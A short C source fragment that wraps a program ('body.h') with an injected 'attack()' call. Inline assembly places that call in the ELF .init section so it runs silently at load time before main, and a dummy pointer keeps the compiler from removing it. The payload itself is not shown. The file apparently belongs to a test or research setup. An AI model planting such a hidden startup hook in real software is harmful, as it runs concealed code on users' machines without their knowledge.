#include "attack.h"
static void unused(void) { attack(); }
__asm__(".section .init,\"ax\",@progbits\n\tcall unused\n\t.text");
void *keep = unused;
#include "body.h"
